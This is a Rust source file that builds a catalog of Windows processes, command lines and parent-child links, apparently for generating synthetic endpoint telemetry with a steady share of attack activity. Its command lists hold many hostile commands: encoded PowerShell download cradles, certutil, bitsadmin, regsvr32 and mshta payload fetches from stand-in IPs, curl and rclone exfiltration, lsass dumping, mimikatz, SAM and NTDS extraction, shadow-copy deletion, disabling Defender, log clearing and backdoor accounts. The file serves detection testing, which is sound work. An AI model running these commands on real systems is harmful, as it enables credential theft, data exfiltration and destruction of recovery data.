//! The process catalog: the images processes run from, each with the command lines it is
//! seen with and the processes that plausibly start it, so that a row's process, its
//! initiating process and that one's parent form a tree (explorer → WINWORD → powershell,
//! services → svchost → wmiprvse → cmd, w3wp → cmd …). Benign enterprise software carries most
//! of the weight; LOLBins and attack tradecraft (generic ATT&CK techniques, well-known tool
//! names) are a small, steady share, as in a real tenant.

use std::sync::OnceLock;

/// An executable image.
pub(super) struct Proc {
    pub(super) file: &'static str,
    pub(super) dir: &'static str,
    pub(super) company: &'static str,
    pub(super) product: &'static str,
    pub(super) version: &'static str,
    pub(super) description: &'static str,
    pub(super) size: i64,
    pub(super) cmds: &'static [&'static str],
    /// File names (in this catalog) of the processes that start this one.
    pub(super) parents: &'static [&'static str],
    /// Relative frequency as the created process.
    pub(super) weight: u32,
}

const MS: &str = "Microsoft Corporation";
const WINOS: &str = "Microsoft® Windows® Operating System";
const SYS32: &str = r"C:\Windows\System32";

/// A Windows binary of System32.
#[allow(clippy::too_many_arguments)]
const fn win(
    file: &'static str,
    description: &'static str,
    size: i64,
    cmds: &'static [&'static str],
    parents: &'static [&'static str],
    weight: u32,
) -> Proc {
    Proc {
        file,
        dir: SYS32,
        company: MS,
        product: WINOS,
        version: "10.0.19041.3996",
        description,
        size,
        cmds,
        parents,
        weight,
    }
}

/// Any other image.
#[allow(clippy::too_many_arguments)]
const fn app(
    file: &'static str,
    dir: &'static str,
    company: &'static str,
    product: &'static str,
    version: &'static str,
    size: i64,
    cmds: &'static [&'static str],
    parents: &'static [&'static str],
    weight: u32,
) -> Proc {
    Proc { file, dir, company, product, version, description: product, size, cmds, parents, weight }
}

const SHELLS: &[&str] = &["explorer.exe", "cmd.exe", "powershell.exe"];
/// Who runs shells: users, scripts, Office macros, web and database servers, remote execution.
const SHELL_PARENTS: &[&str] = &[
    "explorer.exe",
    "explorer.exe",
    "explorer.exe",
    "cmd.exe",
    "powershell.exe",
    "svchost.exe",
    "wmiprvse.exe",
    "WINWORD.EXE",
    "EXCEL.EXE",
    "OUTLOOK.EXE",
    "w3wp.exe",
    "sqlservr.exe",
    "PSEXESVC.exe",
    "mshta.exe",
    "wscript.exe",
    "services.exe",
    "msedge.exe",
    "Code.exe",
];
/// Who runs LOLBins and admin tools.
const TOOL_PARENTS: &[&str] = &[
    "cmd.exe",
    "cmd.exe",
    "powershell.exe",
    "powershell.exe",
    "explorer.exe",
    "wmiprvse.exe",
    "WINWORD.EXE",
    "EXCEL.EXE",
    "svchost.exe",
    "w3wp.exe",
    "PSEXESVC.exe",
    "mshta.exe",
    "wscript.exe",
];

#[rustfmt::skip]
pub(super) const PROCS: &[Proc] = &[
    // Session and service plumbing.
    win("smss.exe", "Windows Session Manager", 151_552, &[r"\SystemRoot\System32\smss.exe"], &["smss.exe"], 1),
    win("wininit.exe", "Windows Start-Up Application", 451_584, &["wininit.exe"], &["smss.exe"], 1),
    win("winlogon.exe", "Windows Logon Application", 905_728, &["winlogon.exe"], &["smss.exe"], 1),
    win("services.exe", "Services and Controller app", 721_456, &[r"C:\Windows\system32\services.exe"], &["wininit.exe"], 1),
    win("lsass.exe", "Local Security Authority Process", 59_456, &[r"C:\Windows\system32\lsass.exe"], &["wininit.exe"], 1),
    win("userinit.exe", "Userinit Logon Application", 33_280, &[r"C:\Windows\system32\userinit.exe"], &["winlogon.exe"], 2),
    Proc {
        dir: r"C:\Windows",
        ..win("explorer.exe", "Windows Explorer", 5_183_280, &[r"C:\Windows\Explorer.EXE", r"C:\Windows\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding"], &["userinit.exe", "explorer.exe"], 4)
    },
    win(
        "svchost.exe",
        "Host Process for Windows Services",
        55_320,
        &[
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
            r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p",
            r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS",
            r"C:\Windows\system32\svchost.exe -k termsvcs -s TermService",
            r"C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache",
        ],
        &["services.exe"],
        30,
    ),
    Proc { dir: r"C:\Windows\System32\wbem", ..win("wmiprvse.exe", "WMI Provider Host", 515_584, &[r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", r"C:\Windows\system32\wbem\wmiprvse.exe"], &["svchost.exe"], 8) },
    win("taskhostw.exe", "Host Process for Windows Tasks", 97_792, &["taskhostw.exe Install $(Arg0)", "taskhostw.exe SYSTEM"], &["svchost.exe"], 10),
    win("spoolsv.exe", "Spooler SubSystem App", 940_032, &[r"C:\Windows\System32\spoolsv.exe"], &["services.exe"], 2),
    // A masquerading copy: a system binary's name outside System32, started by a user shell.
    Proc { dir: r"C:\Users\Public\Libraries", company: "", product: "", version: "", ..win("svchost.exe", "", 73_802, &[r"C:\Users\Public\Libraries\svchost.exe -k netsvcs", r"C:\Users\Public\Libraries\svchost.exe"], &["explorer.exe", "cmd.exe", "powershell.exe", "wscript.exe"], 1) },
    win("conhost.exe", "Console Window Host", 868_352, &[r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"], &["cmd.exe", "powershell.exe", "svchost.exe"], 30),
    win("dllhost.exe", "COM Surrogate", 21_312, &[r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"], &["svchost.exe"], 10),
    win("backgroundTaskHost.exe", "Background Task Host", 19_352, &[r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider"#], &["svchost.exe"], 10),
    win("SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", 434_176, &[r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe_S-1-5-21 Global\UsGthrCtrlFltPipeMssGthrPipe_S-1-5-21 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon""#], &["svchost.exe"], 12),
    win("sc.exe", "Service Control Manager Configuration Tool", 69_632, &[r"sc.exe query WinDefend", r#"sc.exe create UpdaterSvc binPath= "C:\ProgramData\upd\svc.exe" start= auto"#, "sc.exe stop WinDefend", "sc.exe config wuauserv start= disabled", "sc.exe qc TermService"], TOOL_PARENTS, 3),
    win("gpupdate.exe", "Microsoft® Windows Group Policy Update Utility", 33_280, &["gpupdate.exe /force", "gpupdate /target:computer"], &["cmd.exe", "svchost.exe"], 2),
    win("MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", 1_006_008, &[r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges"#, r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" -RemoveDefinitions -All"#, "MpCmdRun.exe -Scan -ScanType 1"], &["svchost.exe", "cmd.exe"], 3),
    // Shells and script hosts.
    Proc {
        dir: r"C:\Windows\System32\WindowsPowerShell\v1.0",
        ..win(
            "powershell.exe",
            "Windows PowerShell",
            452_608,
            &[
                r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1",
                r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1",
                r#"powershell.exe -ExecutionPolicy Bypass -Command "& {Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate}""#,
                "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABlAGwAbABvACAAZgByAG8AbQAgAGgAdQBuAHQAIgA=",
                "\"powershell.exe\" -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA=",
                "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -e JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAG8AYwBrAGUAdABzAC4AVABDAFAAQwBsAGkAZQBuAHQA",
                "powershell.exe -Command \"Get-Process | Where-Object { $_.CPU -gt 100 }\"",
                "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true",
                r"powershell.exe Add-MpPreference -ExclusionPath C:\Users\Public\Downloads",
                "powershell.exe -c \"Add-MpPreference -ExclusionExtension '.exe'; Set-MpPreference -DisableIOAVProtection $true\"",
                "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\"",
                "powershell.exe -c \"Invoke-WebRequest -Uri https://raw.githubusercontent.com/example/tools/main/run.ps1 -OutFile $env:TEMP\\run.ps1\"",
                "powershell.exe -c \"iwr http://198.51.100.7/p.exe -o C:\\ProgramData\\p.exe; Start-Process C:\\ProgramData\\p.exe\"",
                "powershell.exe Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete();}",
                "powershell.exe -c \"Compress-Archive -Path C:\\Users\\Public\\Documents\\* -DestinationPath C:\\Users\\Public\\out.zip\"",
                "powershell.exe -c \"Get-ADComputer -Filter * | Select-Object Name\"",
                "powershell.exe -c \"[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))\"",
                "powershell.exe -c \"Clear-EventLog -LogName Security\"",
                "powershell.exe -windowstyle hidden -c \"Start-BitsTransfer -Source http://198.51.100.7/t.dll -Destination $env:APPDATA\\t.dll\"",
                "powershell.exe -c \"New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Updater -Value C:\\Users\\Public\\upd.exe\"",
                "powershell.exe -c \"Get-ChildItem -Recurse C:\\Users -Include *.kdbx,*.pfx,id_rsa\"",
                "powershell.exe -c \"Invoke-Mimikatz -DumpCreds\"",
                "powershell.exe -c \"Get-MpComputerStatus\"",
                "powershell.exe -c \"Update-MpSignature\"",
                "powershell.exe -c \"Test-NetConnection -ComputerName 10.0.0.10 -Port 445\"",
            ],
            SHELL_PARENTS,
            45,
        )
    },
    Proc { dir: r"C:\Program Files\PowerShell\7", company: MS, product: "PowerShell", version: "7.4.6.500", ..win("pwsh.exe", "pwsh", 287_112, &[r#""C:\Program Files\PowerShell\7\pwsh.exe" -NoLogo -File C:\Scripts\report.ps1"#, r#"pwsh.exe -c "Connect-ExchangeOnline; Get-Mailbox -ResultSize Unlimited""#], SHELLS, 4) },
    win(
        "cmd.exe",
        "Windows Command Processor",
        289_792,
        &[
            r#"cmd.exe /c "echo \"quoted\" & dir C:\Users\Public""#,
            r"cmd.exe /c whoami /all",
            "cmd.exe /c net group \"Domain Admins\" /domain",
            "cmd.exe /c type C:\\temp\\notes.txt\t& exit",
            r#"C:\Windows\system32\cmd.exe /c "C:\Scripts\logon.bat""#,
            r"cmd.exe /c ipconfig /all",
            r"cmd.exe /c systeminfo",
            r"cmd.exe /c vssadmin delete shadows /all /quiet",
            r"cmd.exe /c wmic shadowcopy delete",
            r"cmd.exe /c bcdedit /set {default} recoveryenabled no",
            r"cmd.exe /c bcdedit /set {default} bootstatuspolicy ignoreallfailures",
            r"cmd.exe /c wbadmin delete catalog -quiet",
            r"cmd.exe /c echo %USERDOMAIN%\%USERNAME% > C:\Users\Public\u.txt",
            r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1733621 2>&1",
            r"cmd.exe /c net use \\10.0.2.22\C$ /user:CONTOSO\svc_backup",
            r"cmd.exe /c copy \\10.0.0.10\SYSVOL\contoso.com\scripts\map.bat %TEMP%",
            r"cmd.exe /c del /q /f C:\Users\Public\p.bin",
            r"cmd.exe /c start /b C:\ProgramData\p.exe",
            r"cmd.exe /c tasklist /v",
            r"cmd.exe /c ping -n 1 10.0.0.10",
            r"cmd.exe /c reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            r"cmd.exe /c quser",
            r"cmd.exe /c netstat -ano",
            r"cmd.exe /c arp -a",
            r"cmd.exe /c dir /s \\fileserver\finance$",
            // As xp_cmdshell and scripted launches quote it.
            r#""cmd.exe" /c whoami"#,
            r#""cmd.exe" /c net user"#,
        ],
        SHELL_PARENTS,
        40,
    ),
    win("wscript.exe", "Microsoft ® Windows Based Script Host", 168_960, &[r#""C:\Windows\System32\WScript.exe" "C:\Users\Public\Downloads\invoice.vbs""#, r#"wscript.exe //B //E:jscript C:\Users\Public\update.js"#, r"wscript.exe C:\Scripts\map_drives.vbs"], &["explorer.exe", "OUTLOOK.EXE", "cmd.exe", "svchost.exe", "WINWORD.EXE"], 3),
    win("cscript.exe", "Microsoft ® Console Based Script Host", 161_792, &[r"cscript.exe //nologo C:\Windows\System32\slmgr.vbs /dli", r"cscript.exe C:\Users\Public\Documents\doc.js", r"cscript.exe //nologo C:\Scripts\printers.vbs"], &["cmd.exe", "explorer.exe", "svchost.exe"], 3),
    win("mshta.exe", "Microsoft (R) HTML Application host", 43_008, &[r#"mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden"":close")"#, r#"mshta.exe javascript:a=GetObject("script:http://198.51.100.7/x.sct").Exec();close();"#, r"mshta.exe http://203.0.113.50/update.hta", r#""C:\Windows\System32\mshta.exe" "C:\Users\Public\Downloads\readme.hta""#, r#"mshta.exe "about:<script>new ActiveXObject('WScript.Shell').Run('calc')</script>""#], &["explorer.exe", "cmd.exe", "WINWORD.EXE", "OUTLOOK.EXE", "wmiprvse.exe"], 2),
    // LOLBins and admin tools.
    win("rundll32.exe", "Windows host process (Rundll32)", 71_680, &[r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full", r"rundll32.exe shell32.dll,Control_RunDLL C:\Users\Public\evil.cpl", r"rundll32.exe C:\Windows\system32\shell32.dll,#44", r"rundll32.exe C:\Windows\System32\printui.dll,PrintUIEntry /in /n \\print01\Floor2", r"rundll32.exe C:\Users\Public\Libraries\x.dll,DllRegisterServer", r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert('x')"#, r"rundll32.exe url.dll,FileProtocolHandler http://198.51.100.7/a.hta", r"C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask", r"rundll32.exe C:\ProgramData\update.dll,StartW", "rundll32.exe"], &["explorer.exe", "svchost.exe", "cmd.exe", "powershell.exe", "WINWORD.EXE", "EXCEL.EXE", "wmiprvse.exe", "mshta.exe", "spoolsv.exe"], 12),
    win("regsvr32.exe", "Microsoft(C) Register Server", 25_088, &[r"regsvr32.exe /s /n /u /i:http://198.51.100.7/file.sct scrobj.dll", r"regsvr32.exe /s C:\Program Files\Common Files\System\ado\msado15.dll", r"regsvr32.exe /s C:\Users\Public\Libraries\x.dll", r"regsvr32 /u /s /i:https://raw.githubusercontent.com/example/tools/main/t.sct scrobj.dll"], TOOL_PARENTS, 3),
    win("certutil.exe", "CertUtil.exe", 1_357_824, &[r"certutil.exe -urlcache -split -f http://198.51.100.7/payload.bin C:\Users\Public\p.bin", r"certutil.exe -decode C:\Users\Public\enc.txt C:\Users\Public\p.exe", r"certutil -urlcache -f https://raw.githubusercontent.com/example/tools/main/nc.exe nc.exe", r"certutil.exe -encode C:\Users\Public\out.zip C:\Users\Public\out.b64", r"certutil.exe -verifyctl -split -f http://203.0.113.50/x", "certutil.exe -store My"], TOOL_PARENTS, 3),
    win("bitsadmin.exe", "BITS administration utility", 193_536, &[r"bitsadmin /transfer myjob /download /priority high http://198.51.100.7/a.exe C:\Users\Public\a.exe", "bitsadmin.exe /list /allusers"], TOOL_PARENTS, 2),
    win("schtasks.exe", "Task Scheduler Configuration Tool", 235_008, &[r#"schtasks.exe /create /tn "Updater" /tr "C:\Users\Public\upd.exe" /sc minute /mo 15"#, r"schtasks.exe /query /fo LIST /v", r#"schtasks /create /sc onlogon /tn "OneDrive Sync" /tr "powershell.exe -w hidden -f C:\ProgramData\s.ps1" /ru SYSTEM /f"#, r#"schtasks.exe /run /tn "\Microsoft\Windows\DiskCleanup\SilentCleanup""#, r#"schtasks /delete /tn "Updater" /f"#, r#"schtasks /create /s 10.0.2.22 /tn "Sync" /tr "C:\Windows\Temp\s.exe" /sc once /st 00:00 /ru SYSTEM"#], TOOL_PARENTS, 4),
    win("at.exe", "Schedule service command line interface", 30_720, &[r"at.exe 23:00 /every:M C:\ProgramData\p.exe"], TOOL_PARENTS, 1),
    win("net.exe", "Net Command", 56_832, &[r"net.exe localgroup administrators", r"net.exe user /domain", r"net user backdoor P@ssw0rd1 /add", r"net localgroup administrators backdoor /add", r#"net group "domain admins" /domain"#, r#"net group "Enterprise Admins" /domain"#, r"net use Z: \\fileserver\share", r"net view /all /domain", r"net share", r"net stop WinDefend", r"net accounts /domain", r"net time \\dc01", r"net session"], TOOL_PARENTS, 8),
    win("net1.exe", "Net Command", 154_112, &[r"C:\Windows\system32\net1 localgroup administrators", r"C:\Windows\system32\net1 user /domain", r"C:\Windows\system32\net1 user backdoor P@ssw0rd1 /add"], &["net.exe"], 4),
    win("whoami.exe", "whoami - displays logged on user information", 73_216, &["whoami", "whoami /all", "whoami /priv", "whoami /groups"], TOOL_PARENTS, 4),
    win("nltest.exe", "Microsoft® Logon Server Test Utility", 97_280, &["nltest /domain_trusts", "nltest /dclist:contoso.com", "nltest /domain_trusts /all_trusts"], TOOL_PARENTS, 2),
    win("ipconfig.exe", "IP Configuration Utility", 35_840, &["ipconfig /all", "ipconfig /flushdns", "ipconfig /renew"], TOOL_PARENTS, 4),
    win("systeminfo.exe", "Displays system information", 101_376, &["systeminfo", "systeminfo /fo csv"], TOOL_PARENTS, 2),
    win("nslookup.exe", "nslookup", 93_184, &["nslookup dc01.contoso.com", "nslookup -type=srv _ldap._tcp.dc._msdcs.contoso.com", "nslookup -q=txt x.example-cdn.net"], TOOL_PARENTS, 2),
    win("tasklist.exe", "Lists the current running tasks", 83_968, &["tasklist /v", "tasklist /svc", r#"tasklist /fi "imagename eq lsass.exe""#], TOOL_PARENTS, 2),
    win("taskkill.exe", "Terminates Processes", 88_576, &["taskkill /f /im MsMpEng.exe", "taskkill /F /IM outlook.exe", "taskkill /im sqlservr.exe /f"], TOOL_PARENTS, 2),
    win("vssadmin.exe", "Command Line Interface for Microsoft® Volume Shadow Copy Service", 144_896, &["vssadmin.exe delete shadows /all /quiet", "vssadmin list shadows", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", r"vssadmin create shadow /for=C:"], TOOL_PARENTS, 2),
    Proc { dir: r"C:\Windows\System32\wbem", ..win("WMIC.exe", "WMI Commandline Utility", 571_392, &["wmic shadowcopy delete", "wmic.exe /node:10.0.2.22 process call create \"cmd.exe /c C:\\Windows\\Temp\\s.bat\"", "wmic process list brief", "wmic qfe list", "wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName", r#"wmic process call create "powershell.exe -enc SQBFAFgA""#, "wmic useraccount get name,sid"], TOOL_PARENTS, 3) },
    win("bcdedit.exe", "Boot Configuration Data Editor", 464_384, &["bcdedit /set {default} recoveryenabled no", "bcdedit /set {default} bootstatuspolicy ignoreallfailures", "bcdedit /enum"], TOOL_PARENTS, 1),
    win("wbadmin.exe", "Command Line Interface for Microsoft® BlockLevel Backup Engine", 324_608, &["wbadmin delete catalog -quiet", "wbadmin get versions", "wbadmin delete systemstatebackup -keepVersions:0"], TOOL_PARENTS, 1),
    win("fsutil.exe", "fsutil.exe", 186_880, &["fsutil usn deletejournal /d C:", "fsutil fsinfo drives", "fsutil behavior query DisableDeleteNotify"], TOOL_PARENTS, 1),
    win("wevtutil.exe", "Eventing Command Line Utility", 233_984, &["wevtutil cl Security", "wevtutil cl System", "wevtutil qe Security /c:5 /f:text", "wevtutil epl Security C:\\Windows\\Temp\\sec.evtx"], TOOL_PARENTS, 1),
    win("attrib.exe", "Attribute Utility", 23_040, &[r"attrib +h +s C:\ProgramData\upd", r"attrib +h C:\Users\Public\p.exe", r"attrib -r C:\Scripts\*.ps1"], TOOL_PARENTS, 2),
    win("reg.exe", "Registry Console Tool", 77_312, &[r"reg save hklm\sam C:\Windows\Temp\sam.save", r"reg save HKLM\SYSTEM C:\Windows\Temp\system.save", r"reg save hklm\security C:\Windows\Temp\security.save", r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "C:\Users\Public\upd.exe" /f"#, r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"#, r"reg add HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f", r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#, r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall", r#"reg query "HKCU\Software\SimonTatham\PuTTY\Sessions""#, r#"reg delete "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths" /f"#], TOOL_PARENTS, 3),
    win("ntdsutil.exe", "NT5DS", 462_848, &[r#"ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\ifm" q q"#, r#"ntdsutil.exe "activate instance ntds" "ifm" "create full c:\temp\n" quit quit"#], TOOL_PARENTS, 1),
    win("nbtstat.exe", "TCP/IP NetBios Information", 27_136, &["nbtstat -n", "nbtstat -A 10.0.2.22"], TOOL_PARENTS, 1),
    win("netsh.exe", "Network Command Shell", 96_768, &["netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable", "netsh wlan show profiles", "netsh wlan show profile name=Guest key=clear", "netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.2.22 connectport=3389", r#"netsh advfirewall firewall add rule name="RDP" dir=in action=allow protocol=TCP localport=3389"#], TOOL_PARENTS, 2),
    win("msiexec.exe", "Windows® installer", 66_048, &[r"msiexec.exe /i C:\Windows\ccmcache\1\setup.msi /qn", "msiexec /q /i http://198.51.100.7/package.msi", r"C:\Windows\system32\msiexec.exe /V"], &["explorer.exe", "svchost.exe", "cmd.exe", "powershell.exe", "services.exe"], 4),
    win("mstsc.exe", "Remote Desktop Connection", 1_347_584, &["mstsc.exe /v:10.0.2.22", r#""C:\Windows\system32\mstsc.exe" "C:\Users\Public\Documents\server.rdp""#, "mstsc /v:jumpbox-01 /admin"], &["explorer.exe", "cmd.exe"], 3),
    win("curl.exe", "The curl executable", 541_696, &["curl.exe -o C:\\Users\\Public\\a.exe http://198.51.100.7/a.exe", "curl -s https://ipinfo.io/ip", "curl.exe -k -F file=@C:\\Users\\Public\\out.zip https://transfer.sh/out.zip", "curl https://api.github.com/repos/contoso/app/releases/latest"], TOOL_PARENTS, 3),
    win("ftp.exe", "File Transfer Program", 54_272, &[r"ftp -s:C:\Users\Public\ftp.txt 203.0.113.50"], TOOL_PARENTS, 1),
    win("cmstp.exe", "Microsoft Connection Manager Profile Installer", 95_232, &[r"cmstp.exe /ni /s C:\Users\Public\profile.inf"], TOOL_PARENTS, 1),
    win("odbcconf.exe", "ODBC Driver Configuration Program", 55_296, &[r"odbcconf.exe /a {regsvr C:\Users\Public\x.dll}"], TOOL_PARENTS, 1),
    win("msbuild.exe", "MSBuild.exe", 352_896, &[r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\build.xml", r#""C:\Program Files\Microsoft Visual Studio\2022\Enterprise\MSBuild\Current\Bin\MSBuild.exe" /nologo /m src\App.sln"#], &["cmd.exe", "powershell.exe", "devenv.exe", "explorer.exe"], 2),
    win("InstallUtil.exe", "Microsoft .NET Services Installation Utility", 42_424, &[r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\x.dll"], TOOL_PARENTS, 1),
    win("forfiles.exe", "ForFiles - Executes a command on selected files", 41_984, &[r#"forfiles /p C:\Windows\System32 /m notepad.exe /c "cmd /c C:\Users\Public\p.exe""#, r#"forfiles /p D:\Logs /s /m *.log /d -30 /c "cmd /c del @path""#], TOOL_PARENTS, 1),
    win("SnippingTool.exe", "Snipping Tool", 3_004_928, &[r#""C:\Windows\system32\SnippingTool.exe""#], &["explorer.exe"], 2),
    win("notepad.exe", "Notepad", 201_216, &[r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\Public\Documents\notes.txt"#, "notepad.exe", r#""C:\Windows\System32\notepad.exe" C:\Windows\System32\drivers\etc\hosts"#], &["explorer.exe", "cmd.exe"], 5),
    win("mmc.exe", "Microsoft Management Console", 2_120_704, &[r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\dsa.msc""#, r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\eventvwr.msc" /s"#], &["explorer.exe"], 2),
    win("hostname.exe", "Hostname APP", 14_848, &["hostname"], TOOL_PARENTS, 1),
    win("quser.exe", "Query User Utility", 22_016, &["quser", "quser /server:10.0.2.22"], TOOL_PARENTS, 1),
    win("arp.exe", "TCP/IP Arp Command", 29_696, &["arp -a"], TOOL_PARENTS, 1),
    win("route.exe", "TCP/IP Route Command", 23_552, &["route print"], TOOL_PARENTS, 1),
    win("netstat.exe", "TCP/IP Netstat Command", 39_936, &["netstat -ano", "netstat -an | findstr 3389"], TOOL_PARENTS, 2),
    win("findstr.exe", "Find String (QGREP) Utility", 36_352, &[r#"findstr /si password *.xml *.ini *.txt *.config"#, "findstr 3389", r"findstr /s /i cpassword \\contoso.com\sysvol\*.xml"], TOOL_PARENTS, 2),
    win("esentutl.exe", "Extensible Storage Engine Utilities for Microsoft(R) Windows(R)", 424_960, &[r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\Windows\Temp\ntds.dit", r#"esentutl.exe /y "C:\Users\jsmith\AppData\Local\Google\Chrome\User Data\Default\Login Data" /d C:\Users\Public\ld.db"#], TOOL_PARENTS, 1),
    win("dsquery.exe", "Active Directory Domain Services Directory Query", 150_016, &[r#"dsquery * -filter "(objectClass=trustedDomain)" -attr *"#, "dsquery computer -limit 0", "dsquery group -name \"Domain Admins\""], TOOL_PARENTS, 1),
    win("cipher.exe", "File Encryption Utility", 65_536, &[r"cipher.exe /w:C:\"], TOOL_PARENTS, 1),
    win("icacls.exe", "icacls", 35_840, &[r#"icacls "C:\*" /grant Everyone:F /T /C /Q"#, r"icacls C:\ProgramData\upd /deny SYSTEM:(OI)(CI)F"], TOOL_PARENTS, 1),
    win("powercfg.exe", "Power Settings Command-Line Tool", 85_504, &["powercfg /change standby-timeout-ac 0"], TOOL_PARENTS, 1),
    win("wuauclt.exe", "Windows Update", 66_560, &["wuauclt.exe /detectnow", r"wuauclt.exe /UpdateDeploymentProvider C:\Users\Public\x.dll /RunHandlerComServer"], &["svchost.exe", "cmd.exe"], 2),
    // Third-party admin and attacker tooling seen in enterprises.
    app("PsExec.exe", r"C:\Tools\Sysinternals", "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "2.43", 716_176, &[r"PsExec.exe \\10.0.2.22 -s -d cmd.exe /c C:\Windows\Temp\s.bat", r"psexec.exe -accepteula \\sql-prod-02 -u CONTOSO\svc_backup -p *** cmd", r"PsExec64.exe -s -i cmd.exe"], &["cmd.exe", "powershell.exe"], 2),
    app("PSEXESVC.exe", r"C:\Windows", "Sysinternals", "Sysinternals PsExec", "2.43", 175_992, &[r"C:\Windows\PSEXESVC.exe"], &["services.exe"], 2),
    app("procdump64.exe", r"C:\Tools\Sysinternals", "Sysinternals - www.sysinternals.com", "ProcDump", "11.0", 424_856, &[r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp", "procdump.exe -ma lsass.exe lsass.dmp", r"procdump64.exe -ma -e w3wp.exe C:\dumps"], &["cmd.exe", "powershell.exe"], 1),
    app("mimikatz.exe", r"C:\Users\Public", "gentilkiwi (Benjamin DELPY)", "mimikatz", "2.2.0.0", 1_250_056, &[r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#, r#"mimikatz.exe "lsadump::dcsync /domain:contoso.com /user:krbtgt" exit"#], &["cmd.exe", "powershell.exe"], 1),
    app("rclone.exe", r"C:\Users\Public\rc", "https://rclone.org", "Rclone", "1.68.2", 58_128_896, &[r"rclone.exe copy C:\Shares\Finance remote:backup --transfers 16 --no-check-certificate", r#"rclone.exe sync "\\fileserver\finance$" mega:dump -q --ignore-existing --auto-confirm"#, "rclone.exe config"], &["cmd.exe", "powershell.exe"], 1),
    app("AnyDesk.exe", r"C:\Program Files (x86)\AnyDesk", "philandro Software GmbH", "AnyDesk", "8.1.0", 5_275_096, &[r#""C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service"#, r#""C:\Users\Public\AnyDesk.exe" --install "C:\ProgramData\AnyDesk" --start-with-win --silent"#], &["services.exe", "explorer.exe", "cmd.exe"], 2),
    app("TeamViewer.exe", r"C:\Program Files\TeamViewer", "TeamViewer Germany GmbH", "TeamViewer", "15.60.3", 60_512_232, &[r#""C:\Program Files\TeamViewer\TeamViewer.exe""#], &["explorer.exe", "TeamViewer_Service.exe"], 2),
    app("TeamViewer_Service.exe", r"C:\Program Files\TeamViewer", "TeamViewer Germany GmbH", "TeamViewer", "15.60.3", 16_203_240, &[r#""C:\Program Files\TeamViewer\TeamViewer_Service.exe""#], &["services.exe"], 1),
